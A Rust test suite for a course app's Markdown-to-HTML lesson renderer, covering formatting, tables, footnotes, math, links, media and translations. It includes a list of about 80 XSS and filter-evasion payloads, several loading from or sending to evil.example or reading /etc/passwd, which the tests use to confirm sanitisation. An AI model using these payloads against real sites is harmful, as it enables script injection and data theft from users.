//! Lessons on the screen: what Markdown becomes, and that nothing in it can run or reach out.

#[path = "support/harmless.rs"]
mod harmless;
mod support;

use course::{Format, MediaKind, Prose, RenderError, render};
use support::{good, rendered, sources, with_lesson};

fn check(markdown: &str, expect: &str) {
    assert_eq!(rendered(&format!("# T\n\n{markdown}")).html.trim(), expect, "{markdown}");
}

#[test]
fn text_becomes_html() {
    check(
        "a *b* **c** ~~d~~ `e`",
        "<p>a <em>b</em> <strong>c</strong> <del>d</del> <code dir=\"auto\">e</code></p>",
    );
    check("> **Note.** a", "<blockquote>\n<p><strong>Note.</strong> a</p>\n</blockquote>");
    check("3. a\n4. b", "<ol start=\"3\">\n<li>a</li>\n<li>b</li>\n</ol>");
    check("---", "<hr>");
    check(
        "```rust x\n<b>\n```",
        "<pre dir=\"auto\" tabindex=\"0\"><code class=\"language-rust\">&lt;b&gt;\n</code></pre>",
    );
    check("a<br>b <kbd>c</kbd> <sub onclick=x>d</sub>", "<p>a<br>b <kbd>c</kbd> <sub>d</sub></p>");
    check(
        "<details open>\n<summary>a</summary>\n\nb\n\n</details>",
        "<details>\n<summary>a</summary>\n<p>b</p>\n</details>",
    );
}

#[test]
fn tables_scroll_and_have_a_name() {
    check(
        "| a | b |\n|---|--:|\n| 1 | 2 |",
        "<div class=\"scroll-x\" tabindex=\"0\" role=\"region\" aria-label=\"a, b\"><table><thead><tr><th scope=\"col\">a</th>\
         <th scope=\"col\" class=\"end\">b</th></tr></thead><tbody>\n<tr><td>1</td><td class=\"end\">2</td></tr>\n</tbody></table></div>",
    );
}

#[test]
fn footnotes_lead_there_and_back() {
    let html = rendered("# T\n\n## Heat\n\na[^x] b[^x]\n\n[^x]: note\n").html;
    assert!(
        html.contains(
            "a<sup id=\"fnref-1\"><a href=\"#fn-1\" role=\"doc-noteref\">1</a></sup> b<sup id=\"fnref-1-2\">"
        ),
        "{html}"
    );
    assert!(html.contains("<li id=\"fn-1\"><p>note <a href=\"#fnref-1\" role=\"doc-backlink\" aria-label=\"↩ Heat\">↩</a> <a href=\"#fnref-1-2\""), "{html}");
}

#[test]
fn formulas_become_mathml_and_bad_ones_show_their_source() {
    let html = rendered("# T\n\n$x^2$\n\n$$\\frac{1}{2}$$\n\n$\\nosuch{$\n").html;
    assert!(
        html.contains("<math dir=\"ltr\" display=\"inline\"><msup><mi>x</mi><mn>2</mn></msup></math>"),
        "{html}"
    );
    assert!(html.contains("display=\"block\"") && html.contains("<mfrac>"), "{html}");
    let html = rendered("# T\n\n$\\nosuch$\n").html;
    assert_eq!(html.trim(), "<p><code dir=\"ltr\">\\nosuch</code></p>");
}

#[test]
fn links_lead_to_lessons_terms_and_headings_and_show_outside_addresses() {
    check(
        "[a](02-store.md#keep-it-clean)",
        "<p><a data-lesson=\"store\" data-anchor=\"keep-it-clean\" href=\"#\">a</a></p>",
    );
    check("[a](02-store.md)", "<p><a data-lesson=\"store\" data-anchor=\"\" href=\"#\">a</a></p>");
    check("[a](glossary:germ)", "<p><a data-term=\"germ\" href=\"#\">a</a></p>");
    check(
        "[a](https://x.org/?a&b)",
        "<p>a (<span class=\"address\" dir=\"ltr\">https://x.org/?a&amp;b</span>)</p>",
    );
    check("<https://x.org>", "<p><span class=\"address\" dir=\"ltr\">https://x.org</span></p>");
    check("[a](mailto:a@x.org)", "<p>a (<span class=\"address\" dir=\"ltr\">a@x.org</span>)</p>");
    let html = rendered("# T\n\n[a](#heat) [b](#none)\n\n## Heat\n").html;
    assert_eq!(html.trim(), "<p><a href=\"#heat\">a</a> b</p>\n<h2 id=\"heat\">Heat</h2>");
}

#[test]
fn pictures_films_and_pages_become_figures() {
    check(
        "![A \"pump\"](../../media/pump.svg \"The <pump>\")",
        "<figure><img src=\"pack://p/courses/water/media/pump.svg\" alt=\"A &quot;pump&quot;\"><figcaption>The &lt;pump&gt;</figcaption></figure>",
    );
    check(
        "a ![b](../../media/pump.svg)",
        "<p>a <img src=\"pack://p/courses/water/media/pump.svg\" alt=\"b\"></p>",
    );
    check("![gone](../../media/gone.svg)", "<p>gone</p>");
    let lesson = rendered(
        "# T\n\n![A film](../../media/film.webm \"C\")\n\n![A game](../../interactive/game/index.html)\n",
    );
    assert_eq!(lesson.html.trim(), "<figure data-media=\"0\"></figure>\n<figure data-media=\"1\"></figure>");
    let film = &lesson.media[0];
    assert_eq!(
        (film.kind, film.mime.as_str(), film.alt.as_str(), film.caption.as_str()),
        (MediaKind::Video, "video/webm", "A film", "C")
    );
    assert_eq!(film.tracks, [("en".to_owned(), "courses/water/media/film.en.vtt".to_owned())]);
    assert_eq!((film.transcript.len(), film.transcript_lang.as_str()), (3, "en"));
    assert_eq!(lesson.media[1].kind, MediaKind::Interactive);
}

#[test]
fn a_translation_has_the_anchors_of_the_original_and_falls_back() {
    let files = good();
    let sources = sources(&files);
    let course = &sources.courses[0];
    let show = |id: &str, lang: &str| {
        render(&files, &sources.sheet, course, course.lesson(id).unwrap(), lang, &str::to_owned).unwrap()
    };
    let swahili = show("boil", "sw");
    assert_eq!((swahili.lang.as_str(), swahili.title.as_str()), ("sw", "Kwa nini"));
    let anchors: Vec<_> =
        swahili.headings.iter().map(|heading| (heading.anchor.as_str(), heading.text.as_str())).collect();
    assert_eq!(anchors, [("heat-kills", "Joto"), ("how-long", "Muda")]);
    assert!(swahili.html.contains("data-lesson=\"store\" data-anchor=\"keep-it-clean\""), "{}", swahili.html);
    assert_eq!(show("store", "sw").lang, "en");
    assert_eq!(show("boil", "fr").lang, "en");
}

#[test]
fn a_lesson_that_is_not_there_is_an_error_not_a_panic() {
    let mut files = good();
    let sources = sources(&files);
    let lesson = sources.courses[0].lesson("store").unwrap();
    let show = |files: &support::Files| {
        render(files, &sources.sheet, &sources.courses[0], lesson, "en", &str::to_owned)
    };
    files.insert("courses/water/lessons/en/02-store.md".into(), b"\xff".to_vec());
    assert!(matches!(show(&files), Err(RenderError::Unreadable { .. })));
    files.insert("courses/water/lessons/en/02-store.md".into(), "> ".repeat(99).into_bytes());
    assert!(matches!(show(&files), Err(RenderError::TooDeep { .. })));
    files.remove("courses/water/lessons/en/02-store.md");
    assert!(matches!(show(&files), Err(RenderError::Missing { .. })));
}

/// Ways people have found to make a page run something. Sources: OWASP's cheat sheet on filter evasion, the cure53
/// collection around DOMPurify, and traps of Markdown.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src=\"asset:0\" onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg/>\"/></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url(https://evil.example/x)\">x</p>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=x><button>x</button></form>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=data:text/html,x></object><embed src=//evil.example/x>",
    "<video src=x onerror=alert(1)><source src=https://evil.example/x></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<kbd onfocus=alert(1) tabindex=0 autofocus>x</kbd>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<details><summary><img src=x onerror=alert(1)></summary></details>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](pack://other/)",
    "[x](tauri://localhost)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](pack://other/x.png)",
    "![x](../../../../../etc/passwd)",
    "![\" onerror=alert(1) x=\"](../../media/pump.svg)",
    "![x](../../media/pump.svg \"\\\" onerror=alert(1) x=\\\"\")",
    "[x](glossary:\"onmouseover=alert(1))",
    "[x](#\"onmouseover=alert(1))",
    "[x](02-store.md#\"onmouseover=alert(1))",
    "## x {#\"onmouseover=alert(1)}",
    "## <img src=x onerror=alert(1)>",
    "```\"onmouseover=alert(1)\nx\n```",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\style{background:url(//evil.example)}{x}$",
    "$\\color{red;background:url(https://evil.example)}{x}$",
    "| <img src=x onerror=alert(1)> |\n|---|\n| \" onload=alert(1) |",
    "a[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: <script>alert(1)</script>",
    "`<img src=\"asset:0\">` <img src=\"asset:0\">",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<math><mtext><table><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<svg></p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<select><math><mtext></select><script>alert(1)</script>",
    "<table><a href=javascript:alert(1)>x</table>",
    "<b id=x><a name=main></a><img name=getElementById><form id=document name=body></form>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<portal src=https://evil.example></portal><frameset onload=alert(1)><frame src=//evil.example></frameset>",
    "<dialog open oncancel=alert(1)><marquee onstart=alert(1)>x</marquee><isindex action=//evil.example>",
];

#[test]
fn nothing_in_a_lesson_can_run_or_reach_the_network() {
    for attack in ATTACKS {
        for text in
            [format!("# T\n\n{attack}\n"), format!("# T\n\na {attack} b\n"), format!("# T\n\n- > {attack}\n")]
        {
            harmless::check(&rendered(&text).html, "pack://p/courses/water/");
        }
    }
    let all = format!("# T\n\n{}\n", ATTACKS.join("\n\n"));
    harmless::check(&rendered(&all).html, "pack://p/courses/water/");
}

#[test]
fn nothing_in_an_item_can_run_or_reach_the_network() {
    let written_as = [Format::Markdown, Format::Html, Format::Plain, Format::Moodle];
    for attack in ATTACKS.iter().chain(&["<p title=\"x\" lang=\"y\" id=\"z\">x</p>"]) {
        for format in written_as {
            let prose = Prose { source: (*attack).to_owned(), format };
            harmless::check(&prose.html(), "");
        }
    }
}

#[test]
fn the_judge_sees_what_is_harmful() {
    for html in [
        "<script>x</script>",
        "<p onclick=\"x\">",
        "<p style=\"x\">",
        "<img src=\"https://x\">",
        "<a href=\"javascript:x\">",
        "<img alt=\"\" onerror=\"x\">",
        "<svg>",
        "<a xlink:href=\"x\">",
        "<math><mtext><svg></svg></mtext></math>",
        "<math><mi xlink:href=\"x\">x</mi></math>",
        "<!-- x -->",
        "<noscript><p title=\"</noscript><img onerror=x>\">",
    ] {
        assert!(std::panic::catch_unwind(|| harmless::check(html, "pack://p/")).is_err(), "{html}");
    }
}

#[test]
fn a_lesson_of_any_make_is_shown_in_time() {
    let sources = sources(&good());
    let course = &sources.courses[0];
    let boil = course.lesson("boil").unwrap();
    let pieces = [
        "<sub>",
        "*a ",
        "[",
        "![",
        "`",
        "$",
        "> ",
        "- ",
        "<b>x",
        "|a|\n|-|\n",
        "[^1]",
        "\\",
        "<!--",
        "a\n# b\n",
        "**a*",
        "[a](#b)",
        "\n\n<script>\n\n",
        "&amp;",
        "$x$",
        "\n\n[^1]: a",
        "![a](x.svg)",
    ];
    for piece in pieces {
        let start = std::time::Instant::now();
        let files = with_lesson(&format!("# T\n\n{}", piece.repeat(60_000 / piece.len())));
        let _ = course::load(&files);
        let _ = render(&files, &sources.sheet, course, boil, "en", &str::to_owned);
        // Far above what a debug build on a busy machine needs, far below what a square of the length would take.
        assert!(start.elapsed().as_secs() < 120, "{piece:?}: {:?}", start.elapsed());
        println!("{piece:?} {:?}", start.elapsed());
    }
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { cases: 64, failure_persistence: None, ..Default::default() })]
    #[test]
    fn no_text_makes_rendering_fail(text in "[ -~\\n<>\"'&#$\\[\\]()!`*_|:/é中]{0,300}") {
        harmless::check(&rendered(&text).html, "pack://p/courses/water/");
    }
}
